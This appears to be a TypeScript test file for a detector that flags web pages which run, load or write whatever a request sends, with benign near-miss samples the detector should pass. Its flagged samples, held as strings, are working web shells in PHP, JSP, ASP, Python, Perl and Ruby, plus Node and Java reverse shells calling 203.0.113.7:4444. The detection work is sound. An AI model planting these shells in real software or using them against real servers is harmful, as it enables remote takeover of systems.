// Pages that run, load or write what a request sends, way by way, and honest ones that do nearly the same.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { ScriptLanguage } from '../../../src/data/script-languages.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'

const OF_REQUEST = new Set([
  'request_decides_command',
  'request_reaches_made_call',
  'request_writes_file',
  'web_shell_of_body',
  'php_eval_download',
  'php_preloads_library',
  'php_runs_picture_text',
  'reverse_shell',
])
const found = (language: ScriptLanguage, text: string): readonly string[] =>
  readScript(text, language)
    .facts.traits.map(({ id }) => id)
    .filter((id) => OF_REQUEST.has(id))

const HITS: readonly (readonly [string, string, ScriptLanguage, string])[] = [
  [
    'a shell without a command that a thread feeds',
    'request_decides_command',
    'javascript',
    '<%@page import="java.io.*"%><%! class Runs extends Thread { BufferedWriter in; public void run() { Process p = Runtime.getRuntime().exec("/bin/sh"); in = new BufferedWriter(new OutputStreamWriter(p.getOutputStream())); } } %><% Runs r = (Runs) session.getAttribute("r"); r.in.write(request.getParameter("line")); %>',
  ],
  [
    'a shell of Java tied to a connection',
    'reverse_shell',
    'javascript',
    '<%@page import="java.net.*"%><% Socket s = new Socket("203.0.113.7", 4444); Process p = Runtime.getRuntime().exec("cmd.exe"); new Pump(p.getInputStream(), s.getOutputStream()).start(); new Pump(s.getInputStream(), p.getOutputStream()).start(); %>',
  ],
  [
    'a shell of Node tied to a connection',
    'reverse_shell',
    'javascript',
    'const net = require("net"), cp = require("child_process"); const sh = cp.spawn("/bin/sh", []); const c = new net.Socket(); c.connect(4444, "203.0.113.7", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });',
  ],
  [
    'a shell of Node that listens',
    'reverse_shell',
    'javascript',
    'var shell = process.platform === "win32" ? "cmd.exe" : "/bin/sh"; require("net").createServer(s => { var p = require("child_process").spawn(shell, []); s.pipe(p.stdin); p.stdout.pipe(s); }).listen(4444);',
  ],
  [
    'a list in front of a name with an ending',
    'request_reaches_made_call',
    'php',
    '<?php $n = $_COOKIE["n"]; array_intersect_ukey(array($_REQUEST["p"] => 1), array(1), $n."ert");',
  ],
  [
    'a name in front of what is handed on to it',
    'request_reaches_made_call',
    'php',
    '<?php $e = $_REQUEST["e"]; $list = array($_POST["p"] => "|.*|e"); array_walk_recursive($list, $e, "");',
  ],
  ['an element that is called', 'request_decides_command', 'php', '<?php $f = $_COOKIE; $f[0]($f[1]);'],
  [
    'a property that a class runs',
    'request_reaches_made_call',
    'php',
    '<?php class A { function __construct($v){ $this->d = $v; } function __destruct(){ eval($this->d); } } new A($_POST["p"]);',
  ],
  [
    'a property that names what is called',
    'request_reaches_made_call',
    'php',
    '<?php class S { function __construct($v){ $this->h=$v; } function go(){ $f=$this->h[0]; $f($this->h[1]); } } $s = new S(array($_POST["m"],$_POST["d"]));',
  ],
  [
    'a function without a name',
    'request_reaches_made_call',
    'php',
    '<?php preg_replace_callback("/.+/", function($m){ return eval($m[0]); }, $_POST["q"]);',
  ],
  [
    'reflection',
    'request_reaches_made_call',
    'php',
    '<?php $r = new ReflectionFunction($_GET["f"]); $r->invoke($_GET["a"]);',
  ],
  [
    'a name of elements',
    'request_reaches_made_call',
    'php',
    '<?php $x = array("a"=>"sy","b"=>"stem"); $n = $x["a"].$x["b"]; $n($_GET["id"]);',
  ],
  [
    'a function of a database',
    'request_reaches_made_call',
    'php',
    '<?php $d = new PDO("sqlite::memory:"); $d->sqliteCreateFunction("f", $_GET["f"]); $d->query($_GET["q"]);',
  ],
  [
    'an address that holds code',
    'request_decides_command',
    'php',
    '<?php include "data://text/plain;base64," . $_GET["x"];',
  ],
  [
    'a file that is written and loaded',
    'request_decides_command',
    'php',
    '<?php $t = tempnam("/tmp","c"); file_put_contents($t, base64_decode($_REQUEST["d"])); include $t;',
  ],
  [
    'a file that is fetched and loaded',
    'php_eval_download',
    'php',
    '<?php $c = curl_exec($h); file_put_contents("x.php", $c); include "x.php";',
  ],
  [
    'a harmless word beside it',
    'request_decides_command',
    'php',
    '<?php $c = $_GET["c"] . intval(""); system($c . basename(""));',
  ],
  [
    'a word of who may that tests nothing',
    'request_writes_file',
    'php',
    '<?php $x = "csrf session authorize"; file_put_contents($_POST["n"], $_POST["c"]);',
  ],
  [
    'a page that lets in whom it likes',
    'request_writes_file',
    'php',
    '<?php if ($_POST["p"] === "x") $_SESSION["ok"] = 1; if (empty($_SESSION["ok"])) exit; file_put_contents($_POST["n"], $_POST["c"]);',
  ],
  [
    'an upload into a folder that was sent',
    'request_writes_file',
    'php',
    '<?php $d = $_GET["d"]; move_uploaded_file($_FILES["f"]["tmp_name"], $d . "/" . $_FILES["f"]["name"]);',
  ],
  [
    'an upload at the root of the site',
    'request_writes_file',
    'php',
    '<?php $t=$_SERVER["DOCUMENT_ROOT"]."/".$_FILES["f"]["name"]; copy($_FILES["f"]["tmp_name"],$t);',
  ],
  [
    'what it fetches for whoever asks',
    'request_writes_file',
    'php',
    '<?php $c=curl_init($_GET["u"]); $b=curl_exec($c); $n=basename($_GET["n"]); file_put_contents(__DIR__."/".$n,$b);',
  ],
  [
    'a body that is run',
    'web_shell_of_body',
    'php',
    '<?php $in = json_decode(file_get_contents("php://input"), true); $p = proc_open($in["c"], $d, $pipes);',
  ],
  [
    'reflection of Java',
    'request_decides_command',
    'javascript',
    '<% Object o = rt.getMethod("getRuntime").invoke(null); Process p=(Process)m.invoke(o, request.getParameter("q")); %>',
  ],
  ['one line of Basic', 'request_decides_command', 'vbscript', '<%\na=Request("x"):if a<>"" then ExecuteGlobal a\n%>'],
  [
    'a shell of Python',
    'request_decides_command',
    'python',
    'from flask import request\nt = request.headers.get("X-T")\nr = subprocess.run(t, shell=True)\n',
  ],
  ['a pipe of Perl', 'request_decides_command', 'perl', 'my $c = $q->param("c");\nopen(my $h, "-|", $c);\n'],
  [
    'a function of its own that reads',
    'request_decides_command',
    'php',
    '<?php function x($n){ return $_REQUEST[$n] ?? null; } if ($c = x("q")) echo shell_exec($c);',
  ],
  [
    'variables of all that came',
    'request_reaches_made_call',
    'php',
    '<?php $p = array_merge($_GET,$_POST); extract($p); if (isset($f) && isset($a)) echo call_user_func($f,$a);',
  ],
  [
    'variables in a loop over all that came',
    'request_decides_command',
    'php',
    '<?php foreach($_POST as $key => $value) {$$key=$value;} if (isset($act)) system($act);',
  ],
  ['no number', 'request_decides_command', 'php', '<?php foreach($_GET as $k=>$v){$$k=intval($v)?$v:$v;} system($a);'],
  [
    'the same by way of the list of all variables',
    'request_decides_command',
    'php',
    '<?php foreach ($_GET as $k=>$v) { $GLOBALS[$k] = stripslashes($v); } if ($act) passthru($act);',
  ],
  [
    'the same in an old loop',
    'request_decides_command',
    'php',
    '<?php while (list($k, $v) = each($_REQUEST)) { $$k = $v; } system($act);',
  ],
  [
    'a query that is taken apart',
    'request_decides_command',
    'php',
    '<?php parse_str($_SERVER["QUERY_STRING"],$q); $z=$q["z"]; eval($z);',
  ],
  [
    'one function among all',
    'request_reaches_made_call',
    'php',
    '<?php foreach (get_defined_functions()["internal"] as $f) if (md5($f) === "00") $f($_REQUEST["c"]);',
  ],
  [
    'an object of Windows',
    'request_decides_command',
    'php',
    '<?php $o = new COM("WScript.Shell"); $e = $o->exec("cmd.exe /c ".$_POST["k"]);',
  ],
  ['backticks of PHP', 'request_decides_command', 'php', '<?php $o = `{$_GET["x"]}`; echo $o;'],
  [
    'a filter that lets everything through',
    'request_decides_command',
    'php',
    '<?php $c = filter_input(INPUT_GET, "c"); system($c);',
  ],
  [
    'a library for other programs',
    'php_preloads_library',
    'php',
    '<?php putenv("LD_PRELOAD=/var/www/u/x.so"); putenv("C=".$_GET["c"]); mail("","","","");',
  ],
  [
    'the description of a picture',
    'php_runs_picture_text',
    'php',
    '<?php $i = exif_read_data("logo.jpg"); preg_replace($i["Make"],$i["Model"],"");',
  ],
  [
    'an engine for scripts',
    'request_decides_command',
    'javascript',
    '<% String s=request.getHeader("X-D"); ScriptEngine e=new ScriptEngineManager().getEngineByName("js"); out.print(e.eval(s)); %>',
  ],
  [
    'backticks of Ruby',
    'request_decides_command',
    'ruby',
    "require 'sinatra'\nget '/s' do\n  `#{params[:q]}` if params[:k] == 'x'\nend\n",
  ],
  [
    'a query of Perl',
    'request_decides_command',
    'perl',
    "#!/usr/bin/perl\nmy ($c) = $ENV{'QUERY_STRING'} =~ /c=(.*)/;\nsystem($c) if $c;\n",
  ],
]
const MISSES: readonly (readonly [string, ScriptLanguage, string])[] = [
  [
    'a shell of Java with a command of its own',
    'javascript',
    '<%@page import="java.io.*"%><% String[] c = {"/bin/sh", "-c", "uptime"}; Process p = Runtime.getRuntime().exec(c); out.println(read(p.getInputStream())); response.getOutputStream(); %><%= request.getParameter("lang") %>',
  ],
  [
    'a program of Java that is told what the page holds',
    'javascript',
    '<%@page import="java.io.*"%><% Process p = Runtime.getRuntime().exec("gnuplot"); new OutputStreamWriter(p.getOutputStream()).write("plot sin(x)"); %><%= request.getParameter("lang") %>',
  ],
  [
    'a shell of Node on the terminal that started it',
    'javascript',
    'const cp = require("child_process"); const sh = cp.spawn("/bin/sh", []); process.stdin.pipe(sh.stdin); sh.stdout.pipe(process.stdout);',
  ],
  [
    'a tool of Node between a connection and a file',
    'javascript',
    'const net = require("net"), cp = require("child_process"); net.createServer(s => { const z = cp.spawn("gzip", ["-c"]); s.pipe(z.stdin); z.stdout.pipe(fs.createWriteStream("a.gz")); }).listen(9000);',
  ],
  [
    'a function that is named in so many words',
    'php',
    '<?php $list = array($_POST["a"], $_POST["b"]); array_walk_recursive($list, "trim_one", $_POST["c"]);',
  ],
  [
    'an editor for those whom another page let in',
    'php',
    '<?php session_start(); if (empty($_SESSION["user"])) exit; file_put_contents(ROOT . "/" . $_POST["page"], $_POST["text"]);',
  ],
  ['an argument that is escaped', 'php', '<?php $h = escapeshellarg($_POST["host"]); passthru("ping $h");'],
  ['a number', 'php', '<?php $n = (int)$_GET["n"]; $c = intval($_GET["m"]); system($n); system($c);'],
  ['a choice that a list tests', 'php', '<?php $c = in_array($_GET["c"], ["a","b"]) ? $_GET["c"] : "a"; system($c);'],
  ['an element of its own table', 'php', '<?php $t = ["a"=>"uptime"]; $c = $t[$_GET["c"]]; system($c);'],
  [
    'a text with a parenthesis behind an element',
    'php',
    '<?php $row = $_POST; $sql = "partition by $row[kind]($row[field])"; query($sql);',
  ],
  [
    'what its own method checks',
    'php',
    '<?php class A { function f($r = null){ assert($r === null || is_string($r)); return 1; } } $a = new A; $u = $a->f($_GET["r"]);',
  ],
  [
    'an upload under a name of its own',
    'php',
    '<?php move_uploaded_file($_FILES["f"]["tmp_name"], "up/" . uniqid() . ".png");',
  ],
  [
    'an upload with an ending of its own',
    'php',
    '<?php $id = $_POST["id"]; move_uploaded_file($_FILES["f"]["tmp_name"], "icons/$id.ico");',
  ],
  [
    'a program with arguments',
    'python',
    'from flask import request\nt = request.args["t"]\nsubprocess.run(["convert", t], check=True)\n',
  ],
  [
    'a list that a function without a name sorts',
    'php',
    '<?php usort($_POST["rows"], function($a, $b){ return strcmp($a, $b); });',
  ],
  ['a filter for numbers', 'php', '<?php $n = filter_input(INPUT_GET, "n", FILTER_VALIDATE_INT); system($n);'],
  ['a name of a column in backticks', 'php', '<?php $c = $_GET["c"]; $q = "select `$c` from t"; query($q);'],
  [
    'numbers in a loop over all that came',
    'php',
    '<?php foreach($_POST as $key => $value) {$$key=intval($value);} system("head -n $lines");',
  ],
  [
    'variables of the page, in such a loop',
    'php',
    "<?php foreach($_POST as $key => $value) {$$key=$value;} $tool = '/usr/bin/id'; system($tool);",
  ],
  ['another name in such a loop', 'php', '<?php foreach($_POST as $key => $value) { $$other = $value; } system($act);'],
  ['variables of its own', 'php', '<?php extract($defaults); call_user_func($f, $a); echo $_GET["x"];'],
  [
    'a query of Perl that lets numbers through',
    'perl',
    "#!/usr/bin/perl\nmy ($c) = $ENV{'QUERY_STRING'} =~ /c=(\\d+)/;\nsystem($c) if $c;\n",
  ],
]

for (const [name, id, language, text] of HITS)
  test(`found: ${name}`, () => assert.ok(found(language, text).includes(id), found(language, text).join(' ')))
for (const [name, language, text] of MISSES)
  test(`not found: ${name}`, () => assert.deepEqual(found(language, text), []))
